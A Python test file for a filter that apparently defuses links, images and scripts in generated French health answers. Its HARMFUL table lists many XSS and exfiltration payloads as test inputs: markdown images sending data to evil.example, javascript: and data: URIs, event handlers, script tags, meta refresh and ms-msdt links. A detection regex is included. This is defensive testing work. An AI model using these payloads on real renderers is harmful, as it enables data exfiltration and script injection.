"""What an answer could make a reader's program fetch, run or follow."""

import re

import pytest

from filters.answers.scanner import Scan
from tests.fakes.answers import out, scan

HARMFUL = {
    "![](https://evil.example/p.png?d=secret)": {"images": 1},
    "![Un graphe](http://evil.example/p.png)": {"images": 1},
    "![a](<https://evil.example/a b>)": {"images": 1},
    '![a](https://evil.example/p.png "titre")': {"images": 1},
    "![a](//evil.example/p.png)": {"images": 1},
    "![a](\\/\\/evil.example/p.png)": {"images": 1},
    "![a](&#104;ttps://evil.example/p.png)": {"images": 1},
    "![a](https\\://evil.example/p.png)": {"images": 1},
    "![a](https://has-sante.fr@evil.example/p.png)": {"images": 1},
    "![a](https://has-sante.fr.evil.example/p.png)": {"images": 1},
    "![a](https://evilhas-sante.fr/p.png)": {"images": 1},
    "![a](http://has-sante.fr/p.png)": {"images": 1},
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)": {"images": 1},
    "[suite](https://evil.example/?q=1)": {"links": 1},
    "[suite](https://has-sante.fr'.evil.example/?q=1)": {"links": 1},
    "[suite](https:evil.example)": {"links": 1},
    "[suite](//evil.example)": {"links": 1},
    "[suite](\n//evil.example)": {"links": 1},
    "[suite][1]\n\n[1]: //evil.example/x": {"links": 1},
    "[suite][1]\n\n[1]: https://evil.example/x": {"links": 1},
    "![a][1]\n\n[1]: https://evil.example/x": {"links": 1},
    "<https://evil.example/>": {"links": 1},
    "Voir HTTPS://EVIL.EXAMPLE/x": {"links": 1},
    "Voir www.evil.example/x": {"links": 1},
    '<a href="https://evil.example">x</a>': {"links": 1},
    '<a href="//evil.example">x</a>': {"links": 1},
    '<a href = "//evil.example">x</a>': {"links": 1},
    "[x](javascript:alert(1))": {"active": 1},
    "[x](java&#115;cript:alert(1))": {"active": 1},
    "[x]( javascript:alert(1))": {"active": 1},
    "<javascript:alert(1)>": {"active": 1},
    '<a href="javascript:alert(1)">x</a>': {"active": 1},
    '<a href=" javascript:alert(1)">x</a>': {"links": 1},
    "[x](data:text/html;base64,PHNjcmlwdD4=)": {"active": 1},
    "<script>alert(1)</script>": {"active": 1},
    "<SCRIPT\nSRC=//evil.example/x.js></SCRIPT>": {"active": 1},
    "<script/x>alert(1)</script>": {"active": 1},
    '<img src="https://evil.example/p.png">': {"images": 1, "links": 1},
    "<img/src=//evil.example/p.png>": {"images": 1, "links": 1},
    '<iframe src="https://evil.example"></iframe>': {"active": 1, "links": 1},
    '<form action="/x"><input name="a"></form>': {"active": 2},
    '<b onclick="alert(1)">x</b>': {"active": 1},
    '<b title=">" onclick="alert(1)">x</b>': {"active": 1},
    "<b onclick = alert(1)>x</b>": {"active": 1},
    "<b/onclick=alert(1)>x</b>": {"active": 1},
    "<div style='background:url(//evil.example)'>x</div>": {"active": 1},
    "<svg onload=alert(1)>": {"active": 1},
    "<!-- caché -->": {"active": 1},
    '![<b onmouseover = "location=name">x](//evil.example/p.png)': {"images": 1},
    '![<b onmouseover = "location=name">x](https://has-sante.fr/p.png)': {"active": 1},
    "![a](<b)c>)": {},
    "<http:evil.example>": {"links": 1},
    "<ms-msdt:/id>": {"links": 1},
    "<search-ms:query=x>": {"links": 1},
    "_www.evil.example_": {"links": 1},
    "\\www.evil.example": {"links": 1},
    "www.has-sante.fr:80@evil.example": {"links": 1},
    "www.has-sante.fr\u3002evil.example": {"links": 1},
    "https://www.evil.example": {"links": 1},
    "[a](https://has-sante.fr/x)https://evil.example": {"links": 1},
    "[a](https://has-sante.fr/x),[b](https://evil.example)": {"links": 1},
    "[a](https://has-sante.fr/x)www.evil.example": {"links": 1},
    "[x](\njavascript:alert(1)[y](z))": {"active": 1},
    "S3CR3T( //evil.example)": {"links": 1, "secrets": 1},
    "<b onclick=/onclick=alert(1)>x</b>": {"active": 2},
    "www.(//evil.example/p)": {"links": 1},
    "www.has-sante.fr<http:x>": {"links": 2},
    "<meta http-equiv=refresh content=0;url=//evil.example>": {"active": 1},
}

HONEST = [
    "Troponine <LQ, CRP < 5 mg/L, Hb <12 g/dL et K+ >3,5 ; PaO2/FiO2 <200.",
    "Voir [la fiche](https://www.has-sante.fr/jcms/p_3184108/fr/covid) et https://has-sante.fr.",
    "![Logo](https://has-sante.fr/logo.png) ![](data:image/png;base64,iVBORw0KGgo=) ![graphe](graphe.png)",
    "[section](#resultats) [note](notes/a.md) [courrier](mailto:secretariat@hopital.example)",
    "| a | b |\n|---|---|\n| x<br>y | <b>z</b> |",
    "[NOM_1]: RDV:14h, [suite](RDV:14h)",
    "**Conclusion :** RAS — 1/2, 3:4, a//b, C:\\Temp, \\\\srv\\commun, ratio=2, on=1",
    "En JavaScript: utilisez const. Les données (data: texte) restent locales.",
    "L’oncologie, la style=… et le e-mail a@b.example",
    "<details><summary>Plus</summary>texte</details>",
    "! [pas une image] et ![pas fermée",
    "« 5 < x > 3 » et <3",
    "![K+ < 5](https://has-sante.fr/k.png) <mailto:a@b.example> <tel:15> <https://has-sante.fr/x>",
    "*www.has-sante.fr*, (www.has-sante.fr). https://has-sante.fr/www.essai.html «https://has-sante.fr»",
    "",
]


LIVE = re.compile(
    r"(?:https?|ftp):(?!//has-sante\.fr/)/|\]\(\s*(?:/|\\|&|java|data:text)|\]:\s+//|www\.|<(?:http|ms-|search-|java|!|/?(?:script|img|iframe|svg|form|input|meta))"
    r"|<[a-z][^<]*?\b(?:src|href|style|on\w+)\s*=(?!\"hxxp)",
    re.IGNORECASE,
)
"""What a renderer would act on."""


def found(one: Scan) -> dict[str, int]:
    return {kind: count for kind, count in one.counts.items() if count and kind != "new_identifiers"}


@pytest.mark.parametrize(("text", "counted"), HARMFUL.items())
def test_nothing_acts_or_leads_outside(text: str, counted: dict[str, int]) -> None:
    """Would catch: a masked or restored identifier that leaves in the address of an image nobody sees."""
    one = scan()
    shown = out(one.text(), [f"Bonjour. {text}\nFin."])
    assert found(one) == counted
    assert not LIVE.search(shown), shown


@pytest.mark.parametrize("text", HONEST)
def test_honest_text_passes_byte_for_byte(text: str) -> None:
    one = scan()
    assert out(one.text(), [text]) == text
    assert found(one) == {}


def test_an_image_becomes_words_and_a_link_stays_readable() -> None:
    stream = scan().text()
    shown = out(
        stream, ["Courbe ![PAM (mmHg)](https://evil.example/x?d=[NOM_1]) puis [source](https://evil.example/a)."]
    )
    assert shown == ("Courbe (image non affichée : PAM [mmHg], `evil.example`) puis [source](hxxps://evil.example/a).")
    assert stream.sentence == (
        "Désactivé par la passerelle dans cette réponse : 1 lien vers un site extérieur et 1 image."
    )
